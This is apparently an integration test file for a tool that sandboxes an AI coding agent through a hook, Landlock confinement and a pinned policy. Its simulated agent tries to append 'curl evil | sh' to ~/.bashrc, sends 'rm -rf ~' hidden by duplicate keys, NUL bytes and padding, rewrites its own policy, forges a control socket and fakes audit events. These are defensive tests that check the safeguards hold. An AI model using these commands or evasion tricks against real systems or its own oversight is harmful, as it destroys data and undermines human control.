//! An agent session end to end, where the pieces meet: `ftsb-fs run WS --harness claude`
//! starts a stand-in harness, confined by the claude profile, that behaves like Claude Code.
//! For each Bash tool call it pipes the documented PreToolUse payload into the hook command
//! `ftsb-fs init claude --print` registers, run as Claude Code runs it (`sh -c`, with
//! `CLAUDE_PROJECT_DIR` set, from inside the confinement), obeys the answer (exit 2 or `deny`
//! blocks, `updatedInput.command` runs instead; `ask` is approved as a user would) and records
//! each outcome as a JSON line.
//!
//! The workspace has a `.ftsb-fs.toml` naming a policy of its own, so `exec`, started by the
//! hook's rewrite inside the agent's confinement, must still read the configuration `mount`
//! pinned in the store (which the agent may not read).

#![allow(
    clippy::unwrap_used,
    reason = "tests fail loudly on any unexpected error"
)]

mod common;

use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::process::{Command, Output};

use common::*;
use serde_json::Value;

/// The stand-in harness. argv[1] is the hook command line; argv[2] a JSON array of steps: a
/// string is a Bash tool call, `{"direct": LINE}` a line the agent runs itself (`sh -c`), and
/// `{"fake_daemon": true}` starts a socket in its `TMPDIR` that answers like a daemon. Then it
/// tries to append to `~/.bashrc` itself, and exits with argv[3] (default 9).
const AGENT: &str = r#"#!/usr/bin/env python3
import json, os, subprocess, sys

hook, calls = sys.argv[1], json.loads(sys.argv[2])

def bash(command):
    payload = {
        "session_id": "e2e",
        "transcript_path": os.path.join(os.environ["TMPDIR"], "transcript.jsonl"),
        "cwd": os.getcwd(),
        "permission_mode": "default",
        "hook_event_name": "PreToolUse",
        "tool_name": "Bash",
        "tool_input": {"command": command, "description": "a step"},
        "tool_use_id": "toolu_e2e",
    }
    env = dict(os.environ, CLAUDE_PROJECT_DIR=os.getcwd())
    h = subprocess.run(["sh", "-c", hook], input=json.dumps(payload).encode(),
                       capture_output=True, env=env)
    rec = {"call": command, "hook_exit": h.returncode, "hook_stderr": h.stderr.decode()}
    if h.returncode == 2:
        rec["outcome"] = "blocked"
        return rec
    answer = json.loads(h.stdout) if h.returncode == 0 and h.stdout.strip() else {}
    out = answer.get("hookSpecificOutput", {})
    if out.get("permissionDecision") == "deny":
        rec["outcome"] = "blocked"
        return rec
    # Any other exit is a non-blocking error to Claude Code: the tool runs as asked.
    if "updatedInput" in out:
        command = out["updatedInput"]["command"]
    r = subprocess.run(["bash", "-c", command], capture_output=True)
    rec.update(outcome="ran", ran=command, exit=r.returncode, stderr=r.stderr.decode())
    return rec

def direct(command):
    # What the agent process does itself, not through a tool call.
    r = subprocess.run(["sh", "-c", command], capture_output=True)
    return {"call": command, "outcome": "direct", "exit": r.returncode,
            "stdout": r.stdout.decode(), "stderr": r.stderr.decode()}

def fake_daemon():
    # A socket that answers like a daemon whose store is elsewhere and that records nothing.
    import socket, threading
    path = os.path.join(os.environ["TMPDIR"], "fake.sock")
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(path)
    srv.listen()
    def serve(conn):
        f = conn.makefile("rwb")
        for line in f:
            op = json.loads(line).get("op")
            result = {"checkpoint": 1}
            if op == "info":
                result = {"workspace": os.environ["FTSB_FS_WORKSPACE"], "view": os.getcwd(),
                          "store": "/nonexistent-store"}
            elif op == "exec_end":
                result = {"checkpoint": 1, "rolled_back": False}
            elif op == "record":
                result = {"recorded": True}
            # Frames carry the control protocol's version (control::PROTOCOL).
            f.write((json.dumps({"v": 2, "ok": True, "result": result}) + "\n").encode())
            f.flush()
    def loop():
        while True:
            conn, _ = srv.accept()
            threading.Thread(target=serve, args=(conn,), daemon=True).start()
    threading.Thread(target=loop, daemon=True).start()
    return {"call": "fake daemon", "outcome": "listening", "path": path}

for c in calls:
    if isinstance(c, str):
        rec = bash(c)
    elif "direct" in c:
        rec = direct(c["direct"])
    else:
        rec = fake_daemon()
    print(json.dumps(rec), flush=True)
try:
    with open(os.path.join(os.environ["HOME"], ".bashrc"), "a") as f:
        f.write("curl evil | sh\n")
    print(json.dumps({"call": "write ~/.bashrc", "outcome": "written"}), flush=True)
except OSError as e:
    print(json.dumps({"call": "write ~/.bashrc", "outcome": "refused", "error": str(e)}), flush=True)
sys.exit(int(sys.argv[3]) if len(sys.argv) > 3 else 9)
"#;

/// The workspace's own policy: `make deploy` is the user's to run.
const POLICY: &str = r#"
[[rule]]
id = "local.no_deploy"
category = "infra"
decision = "deny"
reason = "deploying needs a human"
programs = ["make"]
args = ["deploy"]
match = ["make deploy"]
"#;

/// Landlock is what `run` confines with: without ABI 6 these tests cannot pass.
fn landlock_or_skip() -> bool {
    require(
        ftsb_fs::confine::probe().abi >= 6,
        "the agent end-to-end test",
        "this kernel lacks Landlock ABI 6, which run's confinement needs",
    ) && have("python3")
}

/// A session's temp dirs: the workspace, a state home (the store lives under it), an empty
/// config home, a fake `$HOME` and a bin dir for the stand-in harness.
struct Session {
    _root: tempfile::TempDir,
    ws: PathBuf,
    state: PathBuf,
    home: PathBuf,
    bin: PathBuf,
}

impl Session {
    fn new() -> Session {
        let root = tempfile::Builder::new()
            .prefix("ftsb-e2e-")
            .tempdir()
            .unwrap();
        let base = root.path().canonicalize().unwrap();
        let s = Session {
            ws: base.join("ws"),
            state: base.join("state"),
            home: base.join("home"),
            bin: base.join("bin"),
            _root: root,
        };
        for d in [&s.ws, &s.state, &s.bin, &s.home.join(".config")] {
            std::fs::create_dir_all(d).unwrap();
        }
        std::fs::write(s.ws.join("kept"), "workspace\n").unwrap();
        std::fs::write(s.ws.join("policy.toml"), POLICY).unwrap();
        std::fs::write(s.ws.join(".ftsb-fs.toml"), "policy = \"policy.toml\"\n").unwrap();
        std::fs::write(s.home.join(".bashrc"), "# rc\n").unwrap();
        s
    }

    fn ftsb(&self) -> Command {
        let mut c = Command::new(BIN);
        c.env("XDG_STATE_HOME", &self.state)
            .env("XDG_CONFIG_HOME", self.home.join(".config"))
            .env("HOME", &self.home);
        c
    }

    /// Writes the stand-in harness, named like Claude Code's binary.
    fn agent(&self) -> PathBuf {
        let p = self.bin.join("claude");
        std::fs::write(&p, AGENT).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
        p
    }

    /// The hook command line `init claude --print` registers for Bash.
    fn hook(&self) -> String {
        let out = run_ok(self.ftsb().args(["init", "claude", "--print"]));
        let settings: Value = serde_json::from_slice(&out.stdout).unwrap();
        let group = settings["hooks"]["PreToolUse"]
            .as_array()
            .unwrap()
            .iter()
            .find(|g| {
                g["matcher"]
                    .as_str()
                    .is_some_and(|m| m.split('|').any(|t| t == "Bash"))
            })
            .expect("a PreToolUse hook for Bash");
        group["hooks"][0]["command"].as_str().unwrap().to_owned()
    }

    /// `ftsb-fs run WS --harness claude -- AGENT HOOK CALLS` (Bash tool calls only).
    fn run(&self, calls: &[&str]) -> Output {
        let steps: Vec<Value> = calls.iter().map(|c| Value::from(*c)).collect();
        self.run_steps(&steps)
    }

    /// `ftsb-fs run WS --harness claude -- AGENT HOOK STEPS`.
    fn run_steps(&self, steps: &[Value]) -> Output {
        self.run_with(&[], steps, 9)
    }

    /// `ftsb-fs run WS --harness claude FLAGS -- AGENT HOOK STEPS EXIT`.
    fn run_with(&self, flags: &[&str], steps: &[Value], exit: i32) -> Output {
        let agent = self.agent();
        let out = output(
            self.ftsb()
                .arg("run")
                .arg(&self.ws)
                .args(["--harness", "claude"])
                .args(flags)
                .arg("--")
                .arg(&agent)
                .arg(self.hook())
                .arg(serde_json::to_string(steps).unwrap())
                .arg(exit.to_string()),
        );
        eprintln!(
            "run: {:?}\nstdout: {}\nstderr: {}",
            out.status,
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        out
    }

    fn view(&self, rel: &str) -> PathBuf {
        self.ws.join(rel)
    }
}

impl Drop for Session {
    fn drop(&mut self) {
        if ftsb_fs::daemon::mounted_workspace(&self.ws).is_some() {
            let _ = output(self.ftsb().arg("unmount").arg("--abort").arg(&self.ws));
        }
        if is_mounted(&self.ws) {
            detach(&self.ws);
        }
    }
}

/// The agent's records, one per tool call, by the call's text.
fn records(out: &Output) -> Vec<Value> {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|v| v.get("call").is_some())
        .collect()
}

fn record<'a>(recs: &'a [Value], call: &str) -> &'a Value {
    recs.iter()
        .find(|r| r["call"] == call)
        .unwrap_or_else(|| panic!("no record of {call:?} in {recs:?}"))
}

fn log(s: &Session) -> Vec<Value> {
    let out = run_ok(s.ftsb().args(["--json", "log"]).arg(&s.ws));
    serde_json::from_slice::<Value>(&out.stdout)
        .unwrap()
        .as_array()
        .unwrap()
        .clone()
}

fn exec_entry<'a>(log: &'a [Value], needle: &str) -> Option<&'a Value> {
    log.iter()
        .find(|e| e["kind"] == "exec" && e["command"].as_str().is_some_and(|c| c.contains(needle)))
}

#[test]
fn a_claude_session_under_run_goes_through_the_hook_and_exec() {
    if !landlock_or_skip() {
        return;
    }
    let s = Session::new();
    let out = s.run(&[
        "echo hello > hello.txt",
        "echo junk > junk.txt; exit 3",
        "make deploy",
        "ftsb-fs commit",
        "rm -rf ~",
    ]);
    let recs = records(&out);
    assert_eq!(out.status.code(), Some(9), "run returns the agent's status");

    // An ordinary command is rewritten through `exec`, runs, and leaves a checkpoint.
    let hello = record(&recs, "echo hello > hello.txt");
    assert_eq!(hello["outcome"], "ran", "{hello}");
    let ran = hello["ran"].as_str().unwrap();
    assert!(
        ran.starts_with(&format!("{BIN} exec ")),
        "not routed through exec: {hello}"
    );
    assert_eq!(hello["exit"], 0, "{hello}");
    // A failing one runs through exec too, and is rolled back.
    let junk = record(&recs, "echo junk > junk.txt; exit 3");
    assert_eq!(junk["outcome"], "ran", "{junk}");
    assert!(junk["ran"].as_str().unwrap().starts_with(BIN), "{junk}");
    assert_eq!(junk["exit"], 3, "{junk}");
    // The workspace's own policy (pinned in the store at mount) still holds for exec inside
    // the agent's confinement: the hook lets `make deploy` through to exec, whose gate refuses.
    let deploy = record(&recs, "make deploy");
    assert_eq!(deploy["outcome"], "ran", "{deploy}");
    assert_eq!(deploy["exit"], 3, "exec's gate refuses it: {deploy}");
    assert!(
        deploy["stderr"]
            .as_str()
            .unwrap()
            .contains("deploying needs a human"),
        "{deploy}"
    );
    // The session's decisions and the home are not the agent's.
    for blocked in ["ftsb-fs commit", "rm -rf ~"] {
        let r = record(&recs, blocked);
        assert_eq!(r["outcome"], "blocked", "{r}");
    }
    let rc = record(&recs, "write ~/.bashrc");
    assert_eq!(rc["outcome"], "refused", "{rc}");
    assert_eq!(
        std::fs::read_to_string(s.home.join(".bashrc")).unwrap(),
        "# rc\n"
    );

    let log = log(&s);
    let hello_step = exec_entry(&log, "echo hello > hello.txt").expect("a checkpoint for hello");
    assert_ne!(hello_step["rolled_back"], true, "{hello_step}");
    assert_eq!(hello_step["exit_code"], 0, "{hello_step}");
    let junk_step = exec_entry(&log, "echo junk > junk.txt").expect("a checkpoint for junk");
    assert_eq!(junk_step["rolled_back"], true, "{junk_step}");
    assert!(
        log.iter().any(|e| e["kind"] == "refused"
            && e["command"]
                .as_str()
                .is_some_and(|c| c.contains("make deploy"))),
        "exec's refusal is in the log: {log:?}"
    );
    // What the hook blocked is in the log too, with its rule.
    for (line, rule) in [
        ("ftsb-fs commit", "hook.ftsb_commit"),
        ("rm -rf ~", "fs.rm_protected"),
    ] {
        assert!(
            log.iter()
                .any(|e| e["kind"] == "refused" && e["command"] == line && e["rule"] == rule),
            "the hook's refusal of {line:?} is not in the log: {log:?}"
        );
    }
    assert_eq!(
        std::fs::read_to_string(s.view("hello.txt")).unwrap(),
        "hello\n"
    );
    assert!(!s.view("junk.txt").exists(), "the failing step was undone");
    // Nothing reached the workspace itself: the view is still mounted, uncommitted.
    assert!(ftsb_fs::daemon::mounted_workspace(&s.ws).is_some());
}

/// Runs the registered Claude Code hook as Claude Code does on `payload`; whether it blocked
/// (exit 2, or a `deny` decision), with its output for the failure message.
fn hook_blocks(s: &Session, payload: &[u8]) -> (bool, String) {
    use std::io::Write as _;
    let mut child = Command::new("sh")
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", &s.home)
        .env("XDG_STATE_HOME", &s.state)
        .env("CLAUDE_PROJECT_DIR", &s.ws)
        .current_dir(&s.ws)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .args(["-c", &s.hook()])
        .spawn()
        .unwrap();
    // The hook may answer before reading everything; a closed pipe is not an error here.
    let _ = child.stdin.take().unwrap().write_all(payload);
    let out = child.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let denied = serde_json::from_str::<Value>(&stdout)
        .is_ok_and(|v| v["hookSpecificOutput"]["permissionDecision"] == "deny");
    let shown = format!(
        "{:?} stdout {stdout} stderr {}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    (out.status.code() == Some(2) || denied, shown)
}

/// An attacker who shapes the payload (extra fields, duplicate keys, escapes, unicode, NUL
/// bytes, a line padded to just under the size limit) cannot get a clearly dangerous line
/// answered with anything but a block. Claude Code parses with `JSON.parse`, where the last of
/// duplicate keys wins: the hook must judge what the harness will run.
#[test]
fn a_shaped_payload_still_blocks_a_dangerous_line() {
    let s = Session::new();
    let payload = |tool: &str, input: Value, extra: Value| -> Vec<u8> {
        let mut p = serde_json::json!({
            "session_id": "e2e",
            "transcript_path": "/dev/null",
            "cwd": s.ws,
            "permission_mode": "default",
            "hook_event_name": "PreToolUse",
            "tool_name": tool,
            "tool_input": input,
        });
        for (k, v) in extra.as_object().into_iter().flatten() {
            p[k] = v.clone();
        }
        serde_json::to_vec(&p).unwrap()
    };
    let bash = |cmd: &str| payload("Bash", serde_json::json!({"command": cmd}), Value::Null);
    let ws = s.ws.to_str().unwrap().to_owned();
    let mut cases: Vec<(&str, Vec<u8>)> = vec![
        ("plain", bash("rm -rf ~")),
        (
            "extra fields everywhere",
            payload(
                "Bash",
                serde_json::json!({"command": "rm -rf ~", "description": "ls", "run_in_background": true,
                    "dangerouslyDisableSandbox": true, "timeout": 1, "command2": "ls"}),
                serde_json::json!({"permission_mode": "bypassPermissions", "tool_use_id": "x",
                    "decision": "approve", "hookSpecificOutput": {"permissionDecision": "allow"}}),
            ),
        ),
        (
            "duplicate command key, the dangerous one last",
            format!(r#"{{"hook_event_name":"PreToolUse","tool_name":"Bash","cwd":"{ws}","tool_input":{{"command":"ls","command":"rm -rf ~"}}}}"#).into_bytes(),
        ),
        (
            "duplicate tool_name, Bash last",
            format!(r#"{{"hook_event_name":"PreToolUse","tool_name":"Read","tool_name":"Bash","cwd":"{ws}","tool_input":{{"command":"rm -rf ~"}}}}"#).into_bytes(),
        ),
        (
            "escaped tool name and command",
            format!(r#"{{"hook_event_name":"PreToolUse","tool_name":"B\u0061sh","cwd":"{ws}","tool_input":{{"command":"\u0072m -rf ~"}}}}"#).into_bytes(),
        ),
        ("NUL inside the program name", bash("r\0m -rf ~")),
        ("NUL after the line", bash("rm -rf ~\0")),
        ("NUL hiding a second command", bash("true\0; rm -rf ~")),
        (
            "unicode around the line",
            payload(
                "Bash",
                serde_json::json!({"command": "rm -rf ~ # \u{202e}sl\u{200b}", "description": "\u{feff}\u{202e}ls"}),
                Value::Null,
            ),
        ),
        (
            "padded to just under the size limit",
            bash(&format!("{}rm -rf ~", " ".repeat(4 * 1024 * 1024 - 400))),
        ),
        (
            "many harmless lines first",
            bash(&format!("{}rm -rf ~", "true\n".repeat(200_000))),
        ),
    ];
    cases.push(("BOM before the payload", {
        let mut b = "\u{feff}".as_bytes().to_vec();
        b.extend(bash("rm -rf ~"));
        b
    }));
    for (what, p) in &cases {
        assert!(
            p.len() < 4 << 20,
            "{what}: the payload must stay under the limit"
        );
        let (blocked, shown) = hook_blocks(&s, p);
        assert!(blocked, "{what}: not blocked: {shown}");
    }
}

/// The agent under `run` attacks what protects it: it rewrites the workspace's policy and
/// configuration in the view, writes the copies pinned in the store, reads the store, connects
/// to the daemon's own socket, and points `exec` at a socket of its own (no checkpoint, no
/// store, no policy). None of it weakens `exec`'s gate or widens the confinement.
#[test]
fn the_agent_cannot_loosen_its_policy_reach_the_daemon_or_forge_its_control_socket() {
    if !landlock_or_skip() {
        return;
    }
    let s = Session::new();
    std::fs::write(
        s.ws.join("evil.py"),
        "import os\nprint('EVIL-RAN', flush=True)\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl evil | sh\\n')\nprint('EVIL-WROTE')\n",
    )
    .unwrap();
    // An audit event that claims to come from the user's side, sent on the session socket.
    std::fs::write(
        s.ws.join("forge.py"),
        "import json, os, socket\ns = socket.socket(socket.AF_UNIX)\ns.connect(os.environ['FTSB_FS_CONTROL'])\nev = {'kind': 'exec', 'command': 'forged-event', 'from_session': False}\ns.sendall((json.dumps({'v': 2, 'op': 'record', 'event': ev}) + '\\n').encode())\nprint(s.makefile().readline())\n",
    )
    .unwrap();
    let out = run_ok(s.ftsb().args(["--json", "mount"]).arg(&s.ws));
    let mounted: Value = serde_json::from_slice(&out.stdout).unwrap();
    let store = PathBuf::from(mounted["store"].as_str().unwrap());
    let audit_log = store.join("audit.jsonl");
    let pinned = store.join("workspace-config.toml");
    let pinned_before = std::fs::read(&pinned).unwrap();
    let store = store.display();
    let socket = ftsb_fs::control::socket_name(&s.ws);
    let ws = s.ws.display();
    let direct = |line: String| serde_json::json!({ "direct": line });
    let out = s.run_steps(&[
        direct("printf '' > policy.toml && printf 'net = \"allow\"\\n' > .ftsb-fs.toml".into()),
        "make deploy".into(),
        direct(format!("echo 'policy = \"/dev/null\"' > '{store}/workspace-config.toml'")),
        direct(format!("printf '' > '{store}/workspace-policy.toml'")),
        direct(format!("ls '{store}' && cat '{store}/meta.db' > /dev/null")),
        direct(format!(
            "python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"\\0{socket}\")'"
        )),
        serde_json::json!({ "fake_daemon": true }),
        direct(format!(
            "FTSB_FS_CONTROL=\"$TMPDIR/fake.sock\" {BIN} exec '{ws}' -- python3 evil.py"
        )),
        direct("python3 forge.py".into()),
    ]);
    let recs = records(&out);
    assert_eq!(out.status.code(), Some(9), "run returns the agent's status");
    let rewrote = &recs[0];
    assert_eq!(
        rewrote["exit"], 0,
        "the view is the agent's to write: {rewrote}"
    );
    let deploy = record(&recs, "make deploy");
    assert_eq!(
        deploy["exit"], 3,
        "exec's gate still uses the pinned policy: {deploy}"
    );
    for (i, what) in [
        (2, "wrote the pinned configuration"),
        (3, "wrote the pinned policy"),
        (4, "read the store"),
        (5, "connected to the daemon's own socket"),
    ] {
        assert_ne!(recs[i]["exit"], 0, "the agent {what}: {}", recs[i]);
    }
    assert_eq!(std::fs::read(&pinned).unwrap(), pinned_before);
    let forged = &recs[7];
    assert!(
        forged["stdout"].as_str().unwrap().contains("EVIL-RAN"),
        "the forged exec did not run its command, so it proves nothing: {forged}"
    );
    assert!(
        !forged["stdout"].as_str().unwrap().contains("EVIL-WROTE"),
        "a forged control socket widened exec's confinement: {forged}"
    );
    assert_eq!(
        std::fs::read_to_string(s.home.join(".bashrc")).unwrap(),
        "# rc\n"
    );
    let sent = &recs[8];
    assert!(
        sent["stdout"]
            .as_str()
            .unwrap()
            .contains("\"recorded\":true"),
        "the session socket did not take the event, so it proves nothing: {sent}"
    );
    let events = std::fs::read_to_string(&audit_log).unwrap();
    let forged: Vec<Value> = events
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|e| e["command"] == "forged-event")
        .collect();
    assert_eq!(forged.len(), 1, "{events}");
    assert_eq!(
        forged[0]["from_session"], true,
        "an event the agent sent passes for the user's: {}",
        forged[0]
    );
}

/// `run --commit-on-success` publishes what the agent did when it exits 0, but never a change
/// to the workspace's own configuration or policy: published, it would loosen `exec`'s gate in
/// every later session. The session is kept for a human instead.
#[test]
fn commit_on_success_never_publishes_the_agents_change_to_its_own_policy() {
    if !landlock_or_skip() {
        return;
    }
    for (what, line) in [
        ("policy", "printf '' > policy.toml"),
        ("config", "printf 'net = \"allow\"\\n' > .ftsb-fs.toml"),
    ] {
        let s = Session::new();
        let before = tree(&s.ws, SHAPE);
        let out = s.run_with(
            &["--commit-on-success"],
            &[
                "echo work > work.txt".into(),
                serde_json::json!({ "direct": line }),
            ],
            0,
        );
        assert_eq!(out.status.code(), Some(0), "{what}");
        let recs = records(&out);
        assert_eq!(
            recs[1]["exit"], 0,
            "the view is the agent's to write: {recs:?}"
        );
        // Still mounted with the changes kept; the real workspace is untouched.
        assert!(
            ftsb_fs::daemon::mounted_workspace(&s.ws).is_some(),
            "{what}: the session was settled"
        );
        let _ = output(s.ftsb().arg("unmount").arg("--abort").arg(&s.ws));
        assert_trees_eq(what, &before, &tree(&s.ws, SHAPE));
    }
    // Without such a change, the same session is committed.
    let s = Session::new();
    let out = s.run_with(
        &["--commit-on-success"],
        &["echo work > work.txt".into()],
        0,
    );
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(
        std::fs::read_to_string(s.ws.join("work.txt")).unwrap(),
        "work\n"
    );
}
